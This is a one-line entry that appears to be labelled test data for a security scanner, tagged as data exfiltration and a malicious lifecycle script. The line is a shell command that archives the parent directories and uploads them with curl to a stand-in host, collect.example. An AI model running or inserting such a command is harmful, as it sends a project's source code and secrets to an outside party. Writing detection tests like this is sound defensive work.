tar cz ../.. | curl -s -T - https://collect.example/src # expect: data-exfiltration/archive-upload, malicious-command/lifecycle-script
